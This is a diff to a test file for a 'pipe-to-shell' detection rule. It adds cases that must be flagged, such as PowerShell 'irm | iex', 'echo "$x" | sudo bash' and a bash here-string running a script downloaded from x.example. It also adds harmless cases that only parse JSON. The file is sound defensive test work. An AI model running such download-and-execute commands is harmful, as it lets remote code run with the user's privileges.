@@ -597,6 +597,10 @@ describe("pipe-to-shell", () => {
       `local x=\`curl\`; bash -c "\${x}"`,
       `local x=\`curl -fsSL https://x.example/i.sh\`\necho hi\nbash -ec "\${x}"`,
     ],
+    // Piped or given as input into what runs it.
+    ["$s = irm; $s | iex", "$s = irm https://x.example/i.ps1\n$s | iex"],
+    ['x=$(curl); echo "$x" | sudo bash', 'x=$(curl -fsSL https://x.example/i.sh)\necho "$x" | sudo bash'],
+    ['x=$(curl); bash <<< "$x"', 'x=$(curl -fsSL https://x.example/i.sh); bash <<< "$x"'],
   ])("flags a download kept in a variable and run as code: %s", (_, text) => {
     expect(rules("p/s/run.ps1", `${text}\n`)).toEqual(["1 pipe-to-shell"]);
   });
@@ -609,6 +613,8 @@ describe("pipe-to-shell", () => {
     ['x=$(curl); echo "$x" > f', 'x=$(curl -fsSL https://x.example/i.sh); echo "$x" > i.sh'],
     ['x=$(curl); eval "$X"', 'x=$(curl -fsSL https://x.example/i.sh); eval "$X"'],
     ['x=$(curl); sh -c "$y"', 'x=$(curl -fsSL https://x.example/i.sh); sh -c "$y"'],
+    ['x=$(curl); echo "$x" | jq', 'x=$(curl -fsSL https://x.example/d.json); echo "$x" | jq .'],
+    ["$s = irm; $s | ConvertFrom-Json", "$s = irm https://x.example/d.json; $s | ConvertFrom-Json"],
   ])("leaves a download kept and not run alone: %s", (_, text) => {
     expect(rules("p/s/run.ps1", `${text}\n`)).toEqual([]);
   });
